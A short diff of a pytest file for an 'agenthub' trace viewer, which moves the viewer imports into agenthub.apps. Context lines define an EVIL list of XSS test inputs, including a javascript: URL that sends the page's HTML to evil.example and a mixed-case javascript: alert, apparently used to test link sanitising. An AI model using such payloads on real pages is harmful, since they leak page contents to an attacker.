@@ -11,8 +11,8 @@ from html.parser import HTMLParser
 import pytest
 
 from agenthub.tracer import save_trace
-from agenthub import viewer as viewer_module
-from agenthub.viewer import PAGE, serve_in_thread
+from agenthub.apps import viewer as viewer_module
+from agenthub.apps.viewer import PAGE, serve_in_thread
 
 BROWSERS = ("/usr/bin/chromium", "/usr/bin/chromium-browser", "/usr/bin/google-chrome")
 EVIL = ["javascript:fetch('https://evil.example/?'+document.body.innerHTML)", "JaVaScRiPt:alert(1)",
